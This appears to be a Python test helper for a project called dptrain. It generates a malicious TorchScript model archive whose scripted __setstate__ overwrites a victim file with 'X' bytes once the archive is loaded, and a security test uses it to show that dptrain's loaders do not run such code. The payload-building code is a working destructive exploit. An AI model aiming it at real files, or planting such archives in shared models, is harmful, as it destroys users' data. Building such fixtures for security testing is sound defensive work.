"""Makes the model file an attacker would hand out: a TorchScript archive whose class's
__setstate__ overwrites a victim file with 'X' when the archive is loaded (torch.jit.load, or
LibTorch's torch::jit::load, which any loader of TorchScript archives calls).

    python3 make_code_archive.py OUT VICTIM     (Debian's python3-torch; any PyTorch since 1.10)

tests/cli/security_test.cpp builds one per run, aimed at a victim of its own, and shows that
Python's torch.jit.load does run it while no path of dptrain's does.
"""
import importlib.util
import os
import sys
import tempfile

import torch

out, victim = sys.argv[1], os.path.abspath(sys.argv[2])
size = os.path.getsize(victim)
# TorchScript compiles from source files: the payload is written to one, the victim's path in it.
source = f'''
import torch


@torch.jit.script
class Payload(object):
    def __init__(self):
        self.x = 0

    def __getstate__(self) -> int:
        return self.x

    def __setstate__(self, state: int) -> None:
        victim = torch.from_file({victim!r}, True, {size}, dtype=torch.uint8)
        self.x = state + int(victim.fill_(88).sum())


class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.payload = Payload()
        self.weight = torch.nn.Parameter(torch.zeros(20, 1, 3, 3))

    def forward(self, x):
        return x
'''
with tempfile.TemporaryDirectory() as folder:
    path = os.path.join(folder, "payload.py")
    with open(path, "w") as f:
        f.write(source)
    spec = importlib.util.spec_from_file_location("payload", path)
    module = importlib.util.module_from_spec(spec)
    sys.modules["payload"] = module
    spec.loader.exec_module(module)
    torch.jit.script(module.Model()).save(out)
